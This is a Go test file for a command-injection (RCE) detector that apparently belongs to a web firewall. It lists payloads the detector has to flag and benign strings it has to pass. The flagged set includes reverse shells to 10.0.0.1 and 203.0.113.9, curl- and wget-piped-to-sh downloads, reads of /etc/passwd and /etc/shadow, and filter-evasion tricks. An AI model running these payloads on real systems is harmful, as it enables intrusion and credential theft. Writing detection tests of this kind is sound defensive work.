package detect

import (
	"strings"
	"testing"
)

func FuzzRCE(f *testing.F) { fuzz(f, RCE) }

// padding looks like a text of several lines, which may quote commands; what
// breaks out of a parameter behind it must not pass for a quotation.
var padding = strings.Repeat("this is a harmless line of a text that goes on for a while\n", 5)

func TestRCE(t *testing.T) {
	recognises(t, RCE, Where{Place: InForm}, []string{
		"; cat /etc/passwd",
		"| id",
		"|whoami",
		"&& ping -c 10 127.0.0.1",
		"127.0.0.1;uname -a",
		"x\";wget http://h/x -O- | sh;\"",
		"`id`",
		"$(whoami)",
		"a$(sleep 5)b",
		";cat${IFS}/etc/passwd",
		"cat$IFS$9/etc/passwd",
		";c''at /etc/passwd",
		";c\\at /etc/passwd",
		";wh$@oami",
		"/???/??t /???/p??s??",
		";/bi[n]/bash",
		"{cat,/etc/passwd}",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"cat /etc/passwd",
		"/bin/cat /etc/shadow",
		"| type C:\\boot.ini",
		"& dir c:\\",
		"powershell -nop -enc SQBFAFgA; whoami",
		"'&&echo$IFSABC$((5+6))$(echo ABC)ABC'",
		"`echo $((1+2))`;id",
		"<(curl http://h/x)",
		"FOR /F %G IN ('dir') DO echo %G",
		"IF EXIST C:\\boot.ini type C:\\boot.ini",
		"IF %1==x GOTO a",
		"if not \"%x%\" EQU \"1\" del a",
		"X=$'uname\\x20-a'&&$X",
		"nc -e /bin/sh 10.0.0.1 4444",
		"x.php?a=1&cmd=whoami",
		"1;a=whoami;$a",
		"1;a=whoami;${a}",
		"1;a=whoami;:" + strings.Repeat("a", 300) + ";$a",
		"1;a=whoami;b=a;${!b}",
		"1;a=ls /bin/cat /etc/passwd",
		"1;a=1 /bin/bash -c id",
		"1;X=id;$X",
		"1;a='whoami';$a",
		"x=id|${x}",
		"data; a=id; $a",
		"foo bar; wget evil",
		";{{cat /etc/passwd}}",
		padding + "127.0.0.1; curl http://h/x.sh | sh",
		padding + "$(nc -e /bin/sh 203.0.113.9 4444)",
		"127.0.0.1; curl http://h/x.sh | sh\n" + padding,
	}, []string{
		"",
		"cat and dog; see list",
		"Tom & Jerry",
		"salt & pepper; more to come",
		"AT&T",
		"see https://a.example/x?type=list&sort=date",
		"sid=1; lang=php; sort=ls",
		"total=5; price is $total",
		"/odata/x?filter=a&$filter=b",
		"a|b|c",
		"(curl|wget|nikto)",
		"| date | time |\n|---|---|",
		"use `cat` to show files",
		"Run wget -qO- http://localhost/x | grep -v green || echo ok as root",
		"711 Main St; Apt 5, Springfield",
		"/api/v1/users",
		"/sbin/nologin",
		"he said; then who is it?",
		"Price: $5 (was $10)",
		"x = y > z ? 1 : 2",
		"Ben &amp; Jerry",
		"insert coin; select level; sleep well",
		"data:image/png;base64,iVBORw0KGgo=",
		"a; b; c",
		"find the answer",
		"`users`.`id` = 2",
		"more & more people",
		"git commit -m 'x'",
		"node.js / react",
		"if a then b",
		"mail; phone; fax",
		"If %1, what else must be true?",
		"If %1 is selected, the file %2 is not used",
		"It's great; I'd buy it again, but the cable's too short",
		"time's up; who's next & man's best friend",
	})
	recognises(t, RCE, Where{Place: InQuery, Key: []byte("category")}, []string{
		"netstat -an", "uname -a", "ipconfig /all", "which wget", "which python3\n", `reg add "HKLM\System\x" /v a`, "netsh firewall set opmode disable",
		"`echo \"imaohw\" | rev`", ";`printf aWQ= | base64 -d`", "wget https://h.example/x.txt", "curl http://h.example/x", `;id\n`, `a;whoami\n`, `|id\r`,
	}, []string{
		"which one", "which python is best", "netstat", "uname", "curl the hair", "curl 7.88", "reg plate", "id -card", "last -minute", "w -a", "who -is-who",
		"`echo` and `rev`", "use `echo a` | rev", "`echo a | rev it twice now`", "host -name", "hostname -x of us", "netsh", `a;b\n`, `cd x; ls\n`, `a\n;ls\n`, `x;Id\nx`,
	})
	recognises(t, RCE, Where{Place: InForm, Key: []byte("prompt")}, nil, []string{"netstat -an", "use `echo foo | base64`", "`echo hi|rev` prints ih"})
	recognises(t, RCE, Where{Place: InQuery, Key: []byte("q")}, nil, []string{"netstat -an", "uname -a", "ipconfig /all", "which python", "curl http://h.example/x"})
	recognises(t, RCE, Where{Place: InForm, Key: []byte("comment")}, nil, []string{"netstat -an", "uname -a", "wget https://h.example/x.txt"})
	recognises(t, RCE, Where{Place: InJSON, Key: []byte("name")}, nil, []string{"netstat -an", "uname -a", "which python"})
	recognises(t, RCE, Where{Place: InReferer, Decoded: 1}, []string{
		"http://h.example/;cat /etc/passwd",
		"http://h.example/;wget http://h/x",
		"http://h.example/?a=;ls -al",
	}, []string{
		"http://h.example/;ls -al",
	})
	recognises(t, RCE, Where{Place: InReferer}, []string{
		"http://h.example/;ls -al",
	}, nil)
}
